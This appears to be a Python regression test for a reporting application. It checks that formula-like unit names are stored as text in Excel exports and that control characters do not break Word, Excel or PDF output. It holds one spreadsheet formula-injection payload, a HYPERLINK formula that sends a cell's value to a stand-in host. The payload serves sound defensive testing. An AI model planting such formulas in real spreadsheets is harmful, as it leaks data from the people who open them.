"""Issue 13: the report's Excel keeps unit names as text; control characters never break a document."""

from __future__ import annotations

import io

import pypdf
from docx import Document
from openpyxl import load_workbook

from khoi.reporting.periods import Period
from khoi.reports import report_files
from khoi.units.models import Unit

NAME = '=HYPERLINK("http://x.example/?p="&C4,"Xem")'


def test_a_formula_like_unit_name_is_text_in_the_report_workbook(demo):
    Unit.objects.filter(code="DV001").update(name=NAME, short_name=NAME)
    _name, content = report_files.report_document(period=Period.parse("2021-Y"), format="xlsx")
    cells = [c for ws in load_workbook(io.BytesIO(content)).worksheets for r in ws.iter_rows() for c in r]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert any(isinstance(cell.value, str) and cell.value.startswith("=HYPERLINK") for cell in cells)


def test_control_characters_in_unit_names_do_not_break_word_excel_or_pdf(demo):
    Unit.objects.filter(code="DV001").update(name="Công ty\x01 Cảng\x0b A", short_name="Cảng\x02 A")
    period = Period.parse("2021-Y")
    _name, xlsx = report_files.report_document(period=period, format="xlsx")
    _name, word = report_files.report_document(period=period, format="docx")
    _name, pdf = report_files.report_document(period=period, format="pdf")
    assert load_workbook(io.BytesIO(xlsx)).sheetnames
    assert Document(io.BytesIO(word)).paragraphs
    assert len(pypdf.PdfReader(io.BytesIO(pdf)).pages) >= 1
